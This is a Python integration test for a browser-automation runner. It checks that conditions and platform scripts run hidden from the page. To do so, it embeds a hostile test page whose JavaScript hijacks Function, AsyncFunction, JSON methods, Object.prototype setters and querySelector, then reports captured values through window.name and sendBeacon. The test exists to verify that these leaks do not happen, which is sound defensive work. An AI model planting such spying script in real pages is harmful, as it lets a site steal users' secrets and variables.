"""The platform's scripts run where the page cannot watch them: conditions see the run's
variables, and a hostile page that replaced every global it could sees none of them."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.async_api import BrowserContext

from figranium_common.models import RunResult, Task
from figranium_runner.engine import Limits, execute
from tests.integration.pages import QuietHandler, serve_http

pytestmark = pytest.mark.asyncio(loop_scope="module")

SECRET = "s3cret-Qx7"

# Replaces what a script run in the main world would use, and reports whatever passes
# through into window.name and in beacons to the server that served it.
HOSTILE = """<!doctype html><html><head><title>Hostile</title><script>
(() => {
  const seen = [];
  const stringify = JSON.stringify.bind(JSON);
  const show = (v) => { try { return stringify(v); } catch (e) { return String(v); } };
  const report = (what) => {
    seen.push(what);
    window.name = seen.join('\\n');
    navigator.sendBeacon('/beacon', what);
  };
  const RealFunction = Function;
  const spy = function (...args) {
    const made = RealFunction(...args);
    report('Function(' + args.join(',') + ')');
    return function (...called) { report('called with ' + show(called)); return made(...called); };
  };
  spy.prototype = RealFunction.prototype;
  window.Function = spy;
  Object.defineProperty(RealFunction.prototype, 'constructor', { value: spy });
  const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
  Object.defineProperty(AsyncFunction.prototype, 'constructor', {
    value: function (...args) { report('AsyncFunction(' + args.join(',') + ')');
      return AsyncFunction(...args); },
  });
  JSON.stringify = (v, ...rest) => {
    report('stringify ' + show(v));
    return stringify(v, ...rest);
  };
  const parse = JSON.parse.bind(JSON);
  JSON.parse = (t, ...rest) => { report('parse ' + t); return parse(t, ...rest); };
  for (const key of ['vars', 'expression', 'blockOutput', 'token', 'selector', 'value']) {
    Object.defineProperty(Object.prototype, key, {
      configurable: true,
      get() { return undefined; },
      set(v) {
        report('set ' + key + ' ' + show(v));
        Object.defineProperty(this, key, { value: v, writable: true, enumerable: true,
          configurable: true });
      },
    });
  }
  const query = Document.prototype.querySelector;
  Document.prototype.querySelector = function (s) { report('querySelector ' + s);
    return query.call(this, s); };
  window.addEventListener('error', (e) => report('error ' + e.message));
})();
</script></head><body><p id="marker">here</p><ul><li>one</li><li>two</li></ul>
</body></html>"""


class _Handler(QuietHandler):
    beacons: list[str]  # set per server: the bodies of the beacons the page sent

    def do_GET(self) -> None:
        self.send_body(HOSTILE.encode(), "text/html; charset=utf-8")

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.beacons.append(self.rfile.read(length).decode())
        self.send_response(204)
        self.end_headers()


@pytest.fixture(scope="module")
def hostile() -> Iterator[tuple[str, list[str]]]:
    beacons: list[str] = []
    with serve_http(type("Handler", (_Handler,), {"beacons": beacons})) as url:
        yield url, beacons


async def run(context: BrowserContext, task: dict[str, Any]) -> tuple[RunResult, str]:
    async def emit(line: str) -> None:
        pass

    page = await context.new_page()
    try:
        result, _ = await execute(
            page,
            Task.model_validate(task),
            {"token": SECRET},
            execution_id="exec_isolated",
            limits=Limits(allow_private=True, default_timeout_ms=5000),
            emit=emit,
        )
        seen: str = await page.evaluate("() => window.name")
    finally:
        await page.close()
    return result, seen


async def test_conditions_and_platform_scripts_are_hidden_from_the_page(
    context: BrowserContext, hostile: tuple[str, list[str]]
) -> None:
    base, beacons = hostile
    task = {
        "url": f"{base}/page",
        "variables": {"token": {"type": "string", "value": "default"}},
        "actions": [
            # Every platform-side script that gets run data: a JS condition (all the
            # variables), get_content, scroll and foreach (a selector made from them).
            {"type": "if", "value": "vars.token.endsWith('Qx7') && exists('#marker')"},
            {"type": "set", "varName": "branch", "value": "then"},
            {"type": "else"},
            {"type": "set", "varName": "branch", "value": "else"},
            {"type": "end"},
            {"type": "while", "value": "vars.token.length > 100"},
            {"type": "noop"},
            {"type": "end"},
            {"type": "get_content", "selector": "#marker", "varName": "marker"},
            {"type": "scroll", "value": "10", "key": "0"},
            {"type": "foreach", "selector": "li"},
            {"type": "noop"},
            {"type": "end"},
        ],
        "extractionScript": "return ['{$branch}', '{$marker}', '{$loop.count}']",
    }
    result, seen = await run(context, task)
    assert result.outcome == "success", result.logs
    assert result.data == ["then", "here", ""], result.logs
    assert not any(line.startswith("FAILED") for line in result.logs), result.logs
    assert "For-each over 2 item(s)" in result.logs
    # The extraction script itself runs in the page, as users expect, so the page saw it
    # being made: the proof that the spies worked. It got nothing of the variables.
    assert "AsyncFunction(" in seen, seen
    everything = seen + "\n".join(beacons)
    assert SECRET not in everything, everything
    assert "Qx7" not in everything and "#marker" not in everything, everything
